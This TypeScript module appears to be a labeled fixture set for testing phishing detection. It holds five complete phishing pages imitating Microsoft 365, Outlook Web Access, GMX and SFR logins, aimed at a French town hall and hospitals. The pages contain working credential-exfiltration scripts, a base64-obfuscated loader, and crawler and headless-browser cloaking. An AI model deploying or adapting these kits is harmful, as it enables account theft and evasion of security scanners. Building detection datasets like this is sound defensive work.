import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-m365-mairie-partage-document',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://mairie-stmaur-docs.web.app/partage/?e=secretariat@mairie-saint-maur.fr',
  body: doc({ title: 'Microsoft 365 - Connexion', css: 'body{background:#f2f2f2}.ms{background:#fff;width:440px;margin:80px auto;padding:44px;box-shadow:0 2px 6px #0003}.ms input{border:0;border-bottom:1px solid #666;border-radius:0}.ms .btn{background:#0067b8;border-radius:0;float:right}', body: `<div class="ms"><svg width="108" height="24"><rect width="10" height="10" fill="#f25022"/><rect x="11" width="10" height="10" fill="#7fba00"/><rect y="11" width="10" height="10" fill="#00a4ef"/><rect x="11" y="11" width="10" height="10" fill="#ffb900"/><text x="28" y="17" font-size="15" fill="#737373" font-family="Segoe UI">Microsoft</text></svg>
<p style="font-size:13px;color:#555">Mairie de Saint-Maur — « Délibération conseil municipal.pdf » vous a été partagé. Connectez-vous pour l'afficher.</p>
<h2 style="font-weight:600">Entrez le mot de passe</h2><div id="em" style="font-size:14px"></div><input id="pw" type="password" placeholder="Mot de passe"><div id="err" style="color:#e81123;font-size:13px"></div><a href="#" style="font-size:13px">Mot de passe oublié ?</a><br><br><button class="btn" id="go">Se connecter</button><div style="clear:both"></div></div>
<script>
var em=new URLSearchParams(location.search).get('e')||'';document.getElementById('em').textContent=em;var n=0;
document.getElementById('go').onclick=function(){var p=document.getElementById('pw').value;if(!p)return;n++;
fetch('https://submit-form.com/Yx8pQ2kLm',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({email:em,password:p,try:n})});
if(n<2){document.getElementById('err').textContent='Votre compte ou mot de passe est incorrect.';document.getElementById('pw').value=''}else{location.href='https://www.office.com/'}};
</script>` }),
},
  {
  id: 'zx-owa-chu-boite-pleine',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-chu-grenoble.com/owa/auth/logon.aspx?replaceCurrent=1',
  body: doc({ title: 'Outlook', css: 'body{background:#0072c6}.o{background:#fff;width:380px;margin:90px auto;padding:30px}.o .btn{background:#0072c6}', body: `<div class="o"><h1 style="font-weight:300;color:#0072c6">Outlook</h1><p style="font-size:13px;background:#fff4ce;padding:8px">Votre boîte aux lettres a atteint 98 % de sa capacité. Reconnectez-vous pour valider l'augmentation de quota attribuée par la DSI du CHU.</p>
<form method="POST" action="/owa/auth/owaauth.php"><label>Domaine\\nom d'utilisateur :</label><input name="username" placeholder="CHU\\jdupont"><label>Mot de passe :</label><input type="password" name="password"><input type="radio" name="trusted" checked> Ordinateur privé<br><br><button class="btn">Connexion</button></form></div>` }),
},
  {
  id: 'zx-m365-aitm-hopital-loader',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://sharepoint-ghu-paris.org/Rapport_RH_2024',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>&#8203;</title><meta name="robots" content="noindex,nofollow"></head><body style="margin:0;background:#fff">
<div id="ld" style="font-family:Segoe UI,Arial;text-align:center;margin-top:120px;color:#555">Vérification de votre navigateur…</div>
<script>
(function(){if(navigator.webdriver){location.replace('https://www.wikipedia.org/');return}
var b="${Buffer.from('https://sharepoint-ghu-paris.org/common/oauth2/authorize.js').toString('base64')}";
var s=document.createElement('script');s.src=atob(b);document.body.appendChild(s);})();
</script></body></html>`,
  routes: {
    'sharepoint-ghu-paris.org/common/oauth2/authorize.js': jsRoute(`document.title='Se connecter à votre compte';document.getElementById('ld').remove();
document.body.innerHTML='<div style="font-family:Segoe UI;width:440px;margin:80px auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><div style="font-size:15px;color:#737373">Microsoft</div><h2>Se connecter</h2><p style="font-size:13px">GHU Paris Psychiatrie &amp; Neurosciences</p><input id="u" placeholder="E-mail, téléphone ou identifiant Skype" style="width:100%;padding:8px;border:0;border-bottom:1px solid #666"><input id="p" type="password" placeholder="Mot de passe" style="width:100%;padding:8px;border:0;border-bottom:1px solid #666;margin-top:14px"><button id="b" style="margin-top:20px;background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">Suivant</button><div style="clear:both"></div></div>';
document.getElementById('b').onclick=function(){fetch('/common/GetCredentialType',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({username:document.getElementById('u').value,password:document.getElementById('p').value})}).then(function(r){return r.json()}).then(function(j){if(j.mfa)location.href='/common/SAS/ProcessAuth?s='+j.s})};`),
    'sharepoint-ghu-paris.org/common/GetCredentialType': jsonRoute({ mfa: true, s: 'e2c91f' }),
  },
},
  {
  id: 'zx-gmx-webmail-de-quota',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://gmx-postfach-sicherheit.de.com/login',
  body: doc({ lang: 'de', title: 'GMX Login - Postfach', css: '.g{background:#1c449b;color:#fff;padding:16px 0}.bx{background:#fff;max-width:420px;margin:40px auto;padding:26px}', body: `<div class="g"><div class="wrap"><b style="font-size:24px">GMX</b></div></div><div class="bx"><h2>Ihr Postfach wird deaktiviert</h2><p>Aufgrund eines Sicherheitsupdates müssen Sie Ihr Konto innerhalb von 24 Stunden bestätigen, sonst werden eingehende Nachrichten zurückgewiesen.</p>
<form method="post" action="/login/verarbeiten.php"><label>E-Mail-Adresse</label><input name="email"><label>Passwort</label><input type="password" name="passwort"><button class="btn" style="background:#1c449b">Bestätigen</button></form></div>` }),
},
  {
  id: 'zx-sfr-mail-cloaked-ua',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://sfr-messagerie.espace-client-fr.icu/',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>SFR</title></head><body>
<script>
var ua=navigator.userAgent;
if(/bot|crawl|spider|headless|lighthouse|curl|python/i.test(ua)||screen.width<10){document.body.innerHTML='<h1>Bientôt disponible</h1><p>Site en construction.</p>'}
else{location.href='/m/index.php?token='+Math.random().toString(36).slice(2)}
</script><noscript><h1>Bientôt disponible</h1></noscript></body></html>`,
  routes: {
    'sfr-messagerie.espace-client-fr.icu/m/index.php': htmlRoute(doc({ title: 'SFR Mail - Identification', css: '.s{background:#e2001a;color:#fff;padding:14px 0}', body: `<div class="s"><div class="wrap"><b style="font-size:24px">SFR</b></div></div><main class="wrap" style="max-width:440px;padding:30px 18px"><h2>Accédez à votre messagerie SFR Mail</h2><form method="post" action="/m/next.php"><label>Adresse e-mail, numéro de mobile ou identifiant</label><input name="u"><label>Mot de passe</label><input type="password" name="p"><button class="btn" style="background:#e2001a">Je me connecte</button></form></main>` })),
  },
},
];
